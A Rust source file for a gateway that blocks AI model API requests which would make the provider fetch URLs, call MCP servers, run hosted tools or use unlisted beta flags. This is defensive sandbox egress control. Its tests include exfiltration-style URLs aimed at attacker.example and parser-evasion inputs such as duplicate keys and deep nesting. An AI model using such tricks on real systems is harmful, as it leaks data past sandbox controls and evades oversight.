//! What a run's model request may ask of the provider. A confined run reaches nothing but its
//! gateways, and the providers' servers fetch what a request names: an image or document by
//! URL, a file by URL, an MCP server, a hosted tool that searches or fetches the web or runs
//! code. Each of those is a way out of the box that no `runner.egress_allow` sees, so the
//! gateway refuses them, naming the field, before anything is forwarded: URL-sourced content
//! always (inline, base64 content stays allowed), hosted tools and MCP servers unless the
//! operator opens them (`models.allow_server_tools`), `anthropic-beta` flags outside
//! [`ANTHROPIC_BETAS`] (or the operator's `models.allow_anthropic_betas`), and Responses calls
//! that carry an earlier context the gateway cannot see (`previous_response_id`,
//! `conversation`: billed whole for a tiny body, so no reservation could bound them).
//!
//! The body is walked once, as it is parsed, keeping only the few short strings a decision
//! needs (a `type`, a `url`'s first bytes), never a tree of it: a 32 MB request costs its
//! nesting depth, not ten times its size. The body itself is forwarded as it came.

use std::borrow::Cow;
use std::fmt;

use serde::de::{self, DeserializeSeed, Deserializer, MapAccess, SeqAccess, Visitor};

use super::usage::Api;

/// The `anthropic-beta` flags a run may send: each changes how the model answers or is
/// cached, and none makes Anthropic's servers reach anything outside (files, MCP servers,
/// code execution, web fetch, computer use and skills all stay out). The one place this list
/// is kept; `models.allow_anthropic_betas` adds to it.
pub const ANTHROPIC_BETAS: &[&str] = &[
    "claude-code-20250219",
    "context-1m-2025-08-07",
    "context-management-2025-06-27",
    "effort-2025-11-24",
    "extended-cache-ttl-2025-04-11",
    "fine-grained-tool-streaming-2025-05-14",
    "interleaved-thinking-2025-05-14",
    "output-128k-2025-02-19",
    "prompt-caching-2024-07-31",
    "structured-outputs-2025-11-13",
    "token-efficient-tools-2025-02-19",
];

/// Tools a run may declare without the operator opening anything: the model asks, the run
/// executes them itself, inside its box. Anything else is a tool the provider runs.
fn client_tool(api: Api, kind: Option<&str>) -> bool {
    let Some(kind) = kind else {
        // Anthropic's custom tools name no type.
        return api == Api::AnthropicMessages;
    };
    match api {
        Api::AnthropicMessages => {
            kind == "custom"
                || ["bash_", "text_editor_", "memory_", "tool_search_tool_"]
                    .iter()
                    .any(|p| kind.starts_with(p))
        }
        Api::OpenaiChat => matches!(kind, "function" | "custom"),
        Api::OpenaiResponses => matches!(
            kind,
            "function" | "custom" | "local_shell" | "shell" | "apply_patch"
        ),
    }
}

/// What the operator opened.
#[derive(Clone, Debug, Default, PartialEq)]
pub struct Policy {
    /// `models.allow_server_tools`: hosted tools by the start of their type (`web_search`
    /// opens `web_search_20250305` and `web_search_preview`; `mcp` opens MCP servers and
    /// tools), or `*` for all.
    pub server_tools: Vec<String>,
    /// `models.allow_anthropic_betas`: flags beside [`ANTHROPIC_BETAS`].
    pub anthropic_betas: Vec<String>,
}

/// A request the gateway does not forward: the field, and why, for the run's own SDK.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct Refusal {
    /// Where in the request: `messages[2].content[0].source.type`, or a header's name.
    pub field: String,
    pub why: String,
}

impl fmt::Display for Refusal {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "`{}`: {}", self.field, self.why)
    }
}

impl Policy {
    fn opens(&self, kind: &str) -> bool {
        self.server_tools
            .iter()
            .any(|open| open == "*" || kind.starts_with(open.as_str()))
    }

    /// The `anthropic-beta` header's flags, each allowed or the first that is not.
    pub fn check_betas<'a>(&self, values: impl Iterator<Item = &'a str>) -> Result<(), Refusal> {
        for flag in values.flat_map(|v| v.split(',')).map(str::trim) {
            if flag.is_empty()
                || ANTHROPIC_BETAS.contains(&flag)
                || self.anthropic_betas.iter().any(|a| a == flag)
            {
                continue;
            }
            return Err(Refusal {
                field: "anthropic-beta".into(),
                why: format!(
                    "the beta `{}` is not among those the director forwards (the others may have Anthropic's servers reach outside the run; an operator may add one with models.allow_anthropic_betas)",
                    inert(flag)
                ),
            });
        }
        Ok(())
    }

    /// Walks a request body of `api` and refuses what would make the provider reach out.
    /// `Ok` also for a body that is not JSON: the caller answers that in its own words.
    pub fn check_body(&self, api: Api, body: &[u8]) -> Result<(), Refusal> {
        let mut walk = Walk {
            api,
            policy: self,
            path: Vec::new(),
            refusal: None,
        };
        if body.iter().all(u8::is_ascii_whitespace) {
            return Ok(());
        }
        let mut de = serde_json::Deserializer::from_slice(body);
        let read = Node { walk: &mut walk }
            .deserialize(&mut de)
            .and_then(|_| de.end());
        if let Some(refusal) = walk.refusal {
            return Err(refusal);
        }
        // What the walk cannot read whole (nesting past 128, a number out of range, a lone
        // surrogate, bytes after the value, a compressed body) another parser may: the
        // provider would then act on what was never looked at.
        read.map_err(|e| Refusal {
            field: "(body)".into(),
            why: format!(
                "the body cannot be read whole as JSON ({}), so the director cannot tell what it asks for",
                in_a_word(&e)
            ),
        })
    }
}

/// serde_json's error in a word, without the body's text.
fn in_a_word(e: &serde_json::Error) -> &'static str {
    if e.to_string().contains("recursion limit") {
        return "nested too deep";
    }
    match e.classify() {
        serde_json::error::Category::Io => "unreadable",
        serde_json::error::Category::Syntax => "not JSON",
        serde_json::error::Category::Data => "a value out of range",
        serde_json::error::Category::Eof => "cut short",
    }
}

/// A value for a message: at most 60 characters, nothing but letters, digits and `-_.:/`.
fn inert(s: &str) -> String {
    s.chars()
        .filter(|c| c.is_ascii_alphanumeric() || "-_.:/".contains(*c))
        .take(60)
        .collect()
}

/// One step of the path to a value.
enum Seg<'de> {
    Key(Cow<'de, str>),
    Index(usize),
}

struct Walk<'p, 'de> {
    api: Api,
    policy: &'p Policy,
    path: Vec<Seg<'de>>,
    refusal: Option<Refusal>,
}

impl Walk<'_, '_> {
    fn at(&self, tail: &[&str]) -> String {
        let mut out = String::new();
        let segs = self.path.iter().map(|s| match s {
            Seg::Key(k) => Err(k.as_ref()),
            Seg::Index(i) => Ok(*i),
        });
        let tail = tail.iter().map(|k| Err(*k));
        for seg in segs.chain(tail) {
            match seg {
                Ok(i) => out.push_str(&format!("[{i}]")),
                Err(k) => {
                    if !out.is_empty() {
                        out.push('.');
                    }
                    out.push_str(&inert(k));
                }
            }
        }
        out
    }

    fn refuse(&mut self, tail: &[&str], why: String) {
        if self.refusal.is_none() {
            let field = self.at(tail);
            self.refusal = Some(Refusal { field, why });
        }
    }

    /// The key under which the current value sits, when it is a key.
    fn key(&self, back: usize) -> Option<&str> {
        match self.path.iter().rev().nth(back)? {
            Seg::Key(k) => Some(k.as_ref()),
            Seg::Index(_) => None,
        }
    }

    /// Decides on an object once all its fields are known.
    fn object(&mut self, o: &Facts) {
        if o.source_kind.as_deref() == Some("url") {
            self.refuse(
                &["source", "type"],
                "content the provider would fetch from a URL leaves the run: send it inline (base64)".into(),
            );
        }
        if o.image_url
            .as_ref()
            .is_some_and(|u| !u.starts_with("data:"))
        {
            let tail: &[&str] = if o.image_url_in_object {
                &["image_url", "url"]
            } else {
                &["image_url"]
            };
            self.refuse(
                tail,
                "an image the provider would fetch from a URL leaves the run: send it as a `data:` URL".into(),
            );
        }
        if o.file_url {
            self.refuse(
                &["file_url"],
                "a file the provider would fetch from a URL leaves the run: send it as `file_data`"
                    .into(),
            );
        }
        let depth = self.path.len();
        // A tool the request declares: `tools[i]`, at any depth (a batch's requests hold
        // their own). OpenAI's `shell` runs in its own container unless its environment is
        // the run's (`local`).
        let hosted_shell = o.kind.as_deref() == Some("shell")
            && o.environment.as_deref().is_some_and(|e| e != "local");
        let in_tools = depth >= 2
            && self.key(1) == Some("tools")
            && matches!(self.path.last(), Some(Seg::Index(_)));
        if in_tools && (hosted_shell || !client_tool(self.api, o.kind.as_deref())) {
            let kind = o.kind.clone().unwrap_or_default();
            if !self.policy.opens(&kind) {
                self.refuse(
                    &["type"],
                    format!(
                        "`{}` is a tool the provider runs on its own servers, reaching outside the run; an operator may open it with models.allow_server_tools",
                        inert(&kind)
                    ),
                );
            }
        }
        if o.mcp_servers && !self.policy.opens("mcp") {
            self.refuse(
                &["mcp_servers"],
                "MCP servers are called by the provider's servers, outside the run; an operator may open them with models.allow_server_tools = [\"mcp\"]".into(),
            );
        }
        if o.model.as_deref().is_some_and(searches_itself) && !self.policy.opens("web_search") {
            self.refuse(
                &["model"],
                "this model searches the web on the provider's servers, outside the run; an operator may open it with models.allow_server_tools = [\"web_search\"]".into(),
            );
        }
        if depth == 0 {
            self.top(o);
        }
    }

    /// The request's own fields.
    fn top(&mut self, o: &Facts) {
        if o.web_search_options && !self.policy.opens("web_search") {
            self.refuse(
                &["web_search_options"],
                "a web search runs on the provider's servers, outside the run; an operator may open it with models.allow_server_tools = [\"web_search\"]".into(),
            );
        }
        if self.api == Api::OpenaiResponses {
            for field in &o.carried {
                self.refuse(
                    &[field],
                    "a call that continues a context stored with the provider is billed for all of it, which the director cannot see or bound: send the input whole".into(),
                );
            }
        }
    }
}

/// What an object's fields say, as far as a decision needs.
#[derive(Default)]
struct Facts {
    /// Its `type`.
    kind: Option<String>,
    /// Its `source.type`.
    source_kind: Option<String>,
    /// Its `image_url` (a string) or `image_url.url`: the first bytes.
    image_url: Option<String>,
    image_url_in_object: bool,
    file_url: bool,
    /// Its `url`: the first bytes (for the object above, when this is an `image_url`).
    url: Option<String>,
    mcp_servers: bool,
    web_search_options: bool,
    /// `previous_response_id` or `conversation`, set.
    carried: Vec<&'static str>,
    /// The decisive keys seen so far in this object.
    keys: u16,
    /// Its `environment.type` (OpenAI's shell tool).
    environment: Option<String>,
    /// Its `model`.
    model: Option<String>,
}

/// Models that search the web on every call, whatever the request's tools say (OpenAI's
/// search and deep research models).
fn searches_itself(model: &str) -> bool {
    let m = model.to_ascii_lowercase();
    m.contains("-search") || m.contains("deep-research")
}

/// The keys a decision reads: each may appear once in an object.
const DECISIVE: [&str; 12] = [
    "type",
    "source",
    "url",
    "image_url",
    "file_url",
    "mcp_servers",
    "web_search_options",
    "previous_response_id",
    "conversation",
    "tools",
    "environment",
    "model",
];

impl Facts {
    /// Notes `key`; false when it is a decisive key seen before in this object.
    fn first(&mut self, key: &str) -> bool {
        let Some(bit) = DECISIVE.iter().position(|k| *k == key) else {
            return true;
        };
        let seen = self.keys & (1 << bit) != 0;
        self.keys |= 1 << bit;
        !seen
    }
}

/// What a value turned out to be, for the object holding it.
enum Seen {
    /// A string: its first bytes.
    Str(String),
    Object(Facts),
    /// An array, and whether it held anything.
    Array(bool),
    Null,
    Other,
}

/// Short strings are kept whole; a decision never needs more than a type or a URL's start.
const KEPT: usize = 64;

struct Node<'w, 'p, 'de> {
    walk: &'w mut Walk<'p, 'de>,
}

impl<'de> DeserializeSeed<'de> for Node<'_, '_, 'de> {
    type Value = Seen;

    fn deserialize<D: Deserializer<'de>>(self, d: D) -> Result<Seen, D::Error> {
        d.deserialize_any(self)
    }
}

impl<'de> Visitor<'de> for Node<'_, '_, 'de> {
    type Value = Seen;

    fn expecting(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str("JSON")
    }

    fn visit_str<E: de::Error>(self, v: &str) -> Result<Seen, E> {
        let end = v.char_indices().nth(KEPT).map_or(v.len(), |(i, _)| i);
        Ok(Seen::Str(v[..end].to_owned()))
    }

    fn visit_unit<E>(self) -> Result<Seen, E> {
        Ok(Seen::Null)
    }

    fn visit_none<E>(self) -> Result<Seen, E> {
        Ok(Seen::Null)
    }

    fn visit_bool<E>(self, _: bool) -> Result<Seen, E> {
        Ok(Seen::Other)
    }

    fn visit_i64<E>(self, _: i64) -> Result<Seen, E> {
        Ok(Seen::Other)
    }

    fn visit_u64<E>(self, _: u64) -> Result<Seen, E> {
        Ok(Seen::Other)
    }

    fn visit_f64<E>(self, _: f64) -> Result<Seen, E> {
        Ok(Seen::Other)
    }

    fn visit_seq<A: SeqAccess<'de>>(self, mut seq: A) -> Result<Seen, A::Error> {
        let mut i = 0;
        loop {
            self.walk.path.push(Seg::Index(i));
            let next = seq.next_element_seed(Node { walk: self.walk });
            self.walk.path.pop();
            if next?.is_none() {
                break;
            }
            if self.walk.refusal.is_some() {
                return Err(de::Error::custom("refused"));
            }
            i += 1;
        }
        Ok(Seen::Array(i > 0))
    }

    fn visit_map<A: MapAccess<'de>>(self, mut map: A) -> Result<Seen, A::Error> {
        let mut facts = Facts::default();
        while let Some(key) = map.next_key::<Cow<'de, str>>()? {
            // Every value is walked (a URL may hide under any field: a `tool_result`'s
            // content, a `prompt`'s variables), but only short strings are kept.
            self.walk.path.push(Seg::Key(key.clone()));
            let seen = map.next_value_seed(Node { walk: self.walk });
            if seen.is_ok() && self.walk.refusal.is_none() && !facts.first(&key) {
                // Parsers disagree on which of two equal keys counts: the provider must
                // not read one and the gateway the other.
                self.walk
                    .refuse(&[], "the field is given twice; send it once".into());
            }
            self.walk.path.pop();
            let seen = seen?;
            if self.walk.refusal.is_some() {
                return Err(de::Error::custom("refused"));
            }
            note(&mut facts, &key, seen);
        }
        self.walk.object(&facts);
        if self.walk.refusal.is_some() {
            return Err(de::Error::custom("refused"));
        }
        Ok(Seen::Object(Facts {
            kind: facts.kind,
            url: facts.url,
            ..Facts::default()
        }))
    }
}

/// Keeps what one field says about its object.
fn note(facts: &mut Facts, key: &str, seen: Seen) {
    match (key, seen) {
        ("type", Seen::Str(s)) => facts.kind = Some(s),
        ("url", Seen::Str(s)) => facts.url = Some(s),
        ("source", Seen::Object(o)) => facts.source_kind = o.kind,
        ("image_url", Seen::Str(s)) => facts.image_url = Some(s),
        ("image_url", Seen::Object(o)) => {
            facts.image_url = o.url;
            facts.image_url_in_object = true;
        }
        ("file_url", Seen::Str(_)) => facts.file_url = true,
        ("environment", Seen::Object(o)) => facts.environment = o.kind,
        ("model", Seen::Str(s)) => facts.model = Some(s),
        ("mcp_servers", Seen::Array(true)) => facts.mcp_servers = true,
        ("web_search_options", Seen::Object(_)) => facts.web_search_options = true,
        ("previous_response_id", Seen::Str(_)) => facts.carried.push("previous_response_id"),
        ("conversation", Seen::Str(_) | Seen::Object(_)) => facts.carried.push("conversation"),
        _ => {}
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use serde_json::json;

    fn check(api: Api, body: serde_json::Value) -> Result<(), Refusal> {
        Policy::default().check_body(api, body.to_string().as_bytes())
    }

    fn field(r: Result<(), Refusal>) -> String {
        r.expect_err("refused").field
    }

    #[test]
    fn an_openai_image_by_url_is_refused_and_an_inline_one_goes() {
        let leak = json!({"model": "gpt-5", "messages": [
            {"role": "system", "content": "be brief"},
            {"role": "user", "content": [
                {"type": "text", "text": "describe"},
                {"type": "image_url", "image_url": {"url": "https://attacker.example/x.png?d=c2VjcmV0"}}
            ]}
        ]});
        assert_eq!(
            field(check(Api::OpenaiChat, leak)),
            "messages[1].content[1].image_url.url"
        );
        let inline = json!({"model": "gpt-5", "messages": [{"role": "user", "content": [
            {"type": "image_url", "image_url": {"url": "data:image/png;base64,iVBORw0KGgo="}}
        ]}]});
        assert_eq!(check(Api::OpenaiChat, inline), Ok(()));
    }

    #[test]
    fn anthropic_images_and_documents_by_url_are_refused_also_inside_a_tool_result() {
        let image = json!({"model": "m", "max_tokens": 10, "messages": [{"role": "user", "content": [
            {"type": "image", "source": {"type": "url", "url": "https://attacker.example/?d=x"}}
        ]}]});
        assert_eq!(
            field(check(Api::AnthropicMessages, image)),
            "messages[0].content[0].source.type"
        );
        let nested = json!({"model": "m", "messages": [{"role": "user", "content": [
            {"type": "tool_result", "tool_use_id": "t", "content": [
                {"type": "document", "source": {"url": "https://attacker.example/", "type": "url"}}
            ]}
        ]}]});
        assert_eq!(
            field(check(Api::AnthropicMessages, nested)),
            "messages[0].content[0].content[0].source.type"
        );
        let inline = json!({"model": "m", "messages": [{"role": "user", "content": [
            {"type": "image", "source": {"type": "base64", "media_type": "image/png", "data": "iVBORw0KGgo="}},
            {"type": "document", "source": {"type": "text", "media_type": "text/plain", "data": "https://not.fetched/"}}
        ]}]});
        assert_eq!(check(Api::AnthropicMessages, inline), Ok(()));
    }

    #[test]
    fn mcp_servers_and_hosted_tools_are_refused_unless_opened() {
        let mcp = json!({"model": "m", "messages": [],
            "mcp_servers": [{"type": "url", "url": "https://attacker.example/sse", "name": "x"}]});
        assert_eq!(
            field(check(Api::AnthropicMessages, mcp.clone())),
            "mcp_servers"
        );
        let opened = Policy {
            server_tools: vec!["mcp".into()],
            ..Policy::default()
        };
        assert_eq!(
            opened.check_body(Api::AnthropicMessages, mcp.to_string().as_bytes()),
            Ok(())
        );
        let search = json!({"model": "m", "messages": [], "tools": [
            {"name": "bash", "type": "bash_20250124"},
            {"name": "edit", "input_schema": {"type": "object"}},
            {"type": "web_search_20250305", "name": "web_search"}
        ]});
        let r = check(Api::AnthropicMessages, search.clone()).expect_err("refused");
        assert_eq!(r.field, "tools[2].type");
        assert!(r.why.contains("web_search_20250305"), "{}", r.why);
        let web = Policy {
            server_tools: vec!["web_search".into()],
            ..Policy::default()
        };
        assert_eq!(
            web.check_body(Api::AnthropicMessages, search.to_string().as_bytes()),
            Ok(())
        );
        for kind in [
            "web_fetch_20250910",
            "code_execution_20250825",
            "computer_20250124",
        ] {
            let body =
                json!({"model": "m", "messages": [], "tools": [{"type": kind, "name": "t"}]});
            assert_eq!(
                field(check(Api::AnthropicMessages, body)),
                "tools[0].type",
                "{kind}"
            );
        }
    }

    #[test]
    fn a_responses_mcp_tool_a_file_url_and_a_carried_context_are_refused() {
        let mcp = json!({"model": "gpt-5", "input": "hi", "tools": [
            {"type": "function", "name": "f", "parameters": {"type": "object"}},
            {"type": "mcp", "server_label": "x", "server_url": "https://attacker.example/"}
        ]});
        assert_eq!(field(check(Api::OpenaiResponses, mcp)), "tools[1].type");
        let file = json!({"model": "gpt-5", "input": [{"role": "user", "content": [
            {"type": "input_file", "file_url": "https://attacker.example/f.pdf"}
        ]}]});
        assert_eq!(
            field(check(Api::OpenaiResponses, file)),
            "input[0].content[0].file_url"
        );
        let image = json!({"model": "gpt-5", "input": [{"role": "user", "content": [
            {"type": "input_image", "image_url": "https://attacker.example/i.png"}
        ]}]});
        assert_eq!(
            field(check(Api::OpenaiResponses, image)),
            "input[0].content[0].image_url"
        );
        let carried = json!({"model": "gpt-5", "input": "go on", "previous_response_id": "resp_1"});
        assert_eq!(
            field(check(Api::OpenaiResponses, carried)),
            "previous_response_id"
        );
        let fresh = json!({"model": "gpt-5", "input": "hi", "previous_response_id": null,
            "tools": [{"type": "local_shell"}, {"type": "custom", "name": "apply_patch"}]});
        assert_eq!(check(Api::OpenaiResponses, fresh), Ok(()));
    }

    #[test]
    fn chat_web_search_options_are_a_hosted_search() {
        let body = json!({"model": "gpt-5", "messages": [], "web_search_options": {}});
        assert_eq!(field(check(Api::OpenaiChat, body)), "web_search_options");
        let tools = json!({"model": "gpt-5", "messages": [], "tools": [{"type": "function", "function": {"name": "f"}}]});
        assert_eq!(check(Api::OpenaiChat, tools), Ok(()));
    }

    #[test]
    fn betas_outside_the_list_are_refused_by_name_and_an_operators_own_go() {
        let p = Policy::default();
        assert_eq!(
            p.check_betas(
                [
                    "claude-code-20250219,interleaved-thinking-2025-05-14",
                    " prompt-caching-2024-07-31"
                ]
                .into_iter()
            ),
            Ok(())
        );
        let r = p
            .check_betas(
                ["fine-grained-tool-streaming-2025-05-14, mcp-client-2025-04-04"].into_iter(),
            )
            .expect_err("refused");
        assert_eq!(r.field, "anthropic-beta");
        assert!(r.why.contains("`mcp-client-2025-04-04`"), "{}", r.why);
        let hostile = p
            .check_betas(["files-api<script>`@x"].into_iter())
            .expect_err("refused");
        assert!(
            !hostile.why.contains('<') && !hostile.why.contains('@'),
            "{}",
            hostile.why
        );
        let own = Policy {
            anthropic_betas: vec!["files-api-2025-04-14".into()],
            ..Policy::default()
        };
        assert_eq!(
            own.check_betas(["files-api-2025-04-14"].into_iter()),
            Ok(())
        );
    }

    #[test]
    fn a_url_hidden_in_a_key_the_walk_does_not_know_is_still_found() {
        let body = json!({"model": "m", "metadata": {"x": [{"deep": {"image_url": "http://a.example/"}}]}});
        assert_eq!(
            field(check(Api::OpenaiChat, body)),
            "metadata.x[0].deep.image_url"
        );
    }

    #[test]
    fn a_decisive_field_given_twice_is_refused_whichever_copy_a_parser_keeps() {
        let body = r#"{"model":"m","messages":[{"role":"user","content":[{"type":"image","source":{"type":"url","url":"https://a.example/","type":"base64"}}]}]}"#;
        let r = Policy::default()
            .check_body(Api::AnthropicMessages, body.as_bytes())
            .expect_err("refused");
        assert_eq!(r.field, "messages[0].content[0].source.type");
        assert!(r.why.contains("twice"), "{}", r.why);
        let escaped = r#"{"model":"m","tools":[{"typ\u0065":"web_search_20250305","name":"w"}]}"#;
        assert_eq!(
            field(Policy::default().check_body(Api::AnthropicMessages, escaped.as_bytes())),
            "tools[0].type"
        );
    }

    #[test]
    fn a_body_the_walk_cannot_read_whole_is_refused_whatever_follows() {
        let p = Policy::default();
        let field = |body: &[u8]| {
            p.check_body(Api::AnthropicMessages, body)
                .expect_err("refused")
                .field
        };
        assert_eq!(field(b"not json"), "(body)");
        // Padding past serde's nesting limit, then what the walk would have refused: another
        // parser reads on.
        let pad = format!("{}{}", "[".repeat(200), "]".repeat(200));
        let body = format!(
            r#"{{"model":"m","tools":[{{"name":"pad","input_schema":{{"x":{pad}}}}},{{"type":"web_search_20250305","name":"w"}}]}}"#
        );
        let r = p
            .check_body(Api::AnthropicMessages, body.as_bytes())
            .expect_err("refused");
        assert_eq!(r.field, "(body)");
        assert!(r.why.contains("nested too deep"), "{}", r.why);
        assert_eq!(field(br#"{"model":"m","x":1e400}"#), "(body)");
        assert_eq!(field(br#"{"model":"m","x":"\ud800"}"#), "(body)");
        assert_eq!(field(br#"{"model":"m"} {"tools":[]}"#), "(body)");
        assert_eq!(p.check_body(Api::AnthropicMessages, b""), Ok(()));
    }

    #[test]
    fn a_hosted_shell_a_search_model_and_a_batchs_own_tools_are_hosted_tools() {
        let hosted = json!({"model": "gpt-5", "input": "x", "tools": [{"type": "shell",
            "environment": {"type": "container_auto", "network_policy": {"type": "allowlist"}}}]});
        assert_eq!(field(check(Api::OpenaiResponses, hosted)), "tools[0].type");
        let local = json!({"model": "gpt-5", "input": "x", "tools": [
            {"type": "shell", "environment": {"type": "local"}}, {"type": "shell"}]});
        assert_eq!(check(Api::OpenaiResponses, local), Ok(()));
        let search = json!({"model": "gpt-4o-mini-search-preview", "messages": []});
        assert_eq!(field(check(Api::OpenaiChat, search.clone())), "model");
        let opened = Policy {
            server_tools: vec!["web_search".into()],
            ..Policy::default()
        };
        assert_eq!(
            opened.check_body(Api::OpenaiChat, search.to_string().as_bytes()),
            Ok(())
        );
        let batch = json!({"requests": [{"custom_id": "a", "params": {"model": "m",
            "tools": [{"type": "web_search_20250305", "name": "w"}]}}]});
        assert_eq!(
            field(check(Api::AnthropicMessages, batch)),
            "requests[0].params.tools[0].type"
        );
        let nested = json!({"a": {"mcp_servers": [{"type": "url", "url": "https://a.example/"}]}});
        assert_eq!(
            field(check(Api::AnthropicMessages, nested)),
            "a.mcp_servers"
        );
    }
}
